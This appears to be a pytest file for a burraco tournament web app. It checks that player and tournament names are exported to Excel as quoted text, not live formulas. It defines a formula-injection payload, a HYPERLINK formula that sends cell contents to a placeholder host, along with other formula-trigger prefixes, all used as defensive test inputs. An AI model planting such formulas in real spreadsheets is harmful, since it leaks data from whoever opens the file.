"""Names typed by anyone never become live formulas in the workbooks (issue 11, item 4)."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from burraco_tourney.exports import excel, ko  # noqa: F401  (registers the exporters)
from burraco_tourney.tournaments.models import Entrant
from tests.exports.conftest import render_export
from tests.factories import make_director, make_pairs, make_tournament, make_turno
from tests.tournaments.ko_support import ko_tournament, start

ATTACK = '=HYPERLINK("http://x/?"&A1,"Clicca")'
STARTS = ["=1+1 Zeta", "+39 333", "-2+3 Kappa", "@SUM(A1)", "\tTabulato", "\rRitorno"]


def _name_pairs(tournament, names):
    pairs = Entrant.objects.filter(tournament=tournament).order_by("number")
    for pair, name in zip(pairs, names, strict=False):
        pair.player1 = name
        pair.player2 = f"{name} bis"
        pair.club = name
        pair.save()


def _text_cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    yield sheet.title, cell


def _assert_no_formula(content: bytes, expected: set[str]) -> None:
    # The file itself: no <f> element anywhere, whatever a reader makes of the cells.
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    seen = set()
    for title, cell in _text_cells(content):
        assert cell.data_type == "s", (title, cell.coordinate, cell.value)
        # A carriage return comes back from the file as a line feed.
        if cell.value.startswith(("=", "+", "-", "@", "\t", "\r", "\n")):
            assert cell.quotePrefix, (title, cell.coordinate, cell.value)
        seen |= {text for text in expected if text.lstrip("\t\r") in cell.value}
    assert seen == expected, expected - seen


@pytest.mark.django_db
def test_pairs_workbook_writes_formula_like_names_as_text():
    tournament = make_tournament(name=ATTACK, venue="@Circolo")
    make_pairs(tournament, 8)
    _name_pairs(tournament, [ATTACK, *STARTS, "Rossi Anna"])
    make_turno(tournament, 1, [(1, 2), (3, 4), (5, 6), (7, 8)], totals=[(500, 300)] * 4)
    tournament.turni.update(published=True)
    content = render_export("workbook", tournament).content
    _assert_no_formula(content, {ATTACK, *STARTS})


@pytest.mark.django_db
def test_an_ordinary_workbook_keeps_its_numbers_as_numbers():
    tournament = make_tournament()
    make_pairs(tournament, 4)
    make_turno(tournament, 1, [(1, 2), (3, 4)], totals=[(500, 300), (200, 200)])
    tournament.turni.update(published=True)
    book = load_workbook(io.BytesIO(render_export("workbook", tournament).content))
    pairs = list(book["Coppie"].iter_rows(min_row=3, values_only=True))
    assert [row[0] for row in pairs] == [1, 2, 3, 4]
    assert not any(c.quotePrefix for row in book["Coppie"].iter_rows() for c in row)


@pytest.mark.django_db
def test_ko_bracket_workbook_writes_formula_like_names_as_text():
    director = make_director()
    tournament = ko_tournament(director, pairs=4, name=ATTACK)
    _name_pairs(tournament, [ATTACK, "+39 333", "-2+3", "@SUM(A1)"])
    start(tournament, director)
    content = render_export("tabellone-excel", tournament).content
    _assert_no_formula(content, {ATTACK, "+39 333", "-2+3", "@SUM(A1)"})
